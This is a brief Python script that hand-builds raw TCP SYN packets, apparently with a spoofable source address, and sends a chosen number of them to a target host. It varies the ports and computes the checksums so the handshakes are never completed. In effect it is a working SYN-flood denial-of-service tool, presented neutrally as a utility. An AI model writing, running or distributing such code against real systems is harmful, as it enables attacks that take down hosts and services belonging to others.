"""Opens TCP connections that it never finishes: FROM TO COUNT. Each SYN has another pair of ports; the
kernel's own answers do not count, because nobody answers at TO. Prints how many were sent."""
import socket
import struct
import sys

source, target, count = sys.argv[1], sys.argv[2], int(sys.argv[3])


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def folded(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


# RFC 9293 §3.1: the sum over the pseudo-header and all that is the same in every segment.
fixed = words(socket.inet_aton(source) + socket.inet_aton(target)) + socket.IPPROTO_TCP + 20
fixed += 0x5002 + 64240
flood = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
flood.connect((target, 0))
for number in range(count):
    source_port, target_port = 1024 + number % 64000, 1 + number // 64000
    checksum = 0xFFFF ^ folded(fixed + source_port + target_port + (number >> 16) + (number & 0xFFFF))
    flood.send(struct.pack("!HHIIHHHH", source_port, target_port, number, 0, 0x5002, 64240, checksum, 0))
print(count)
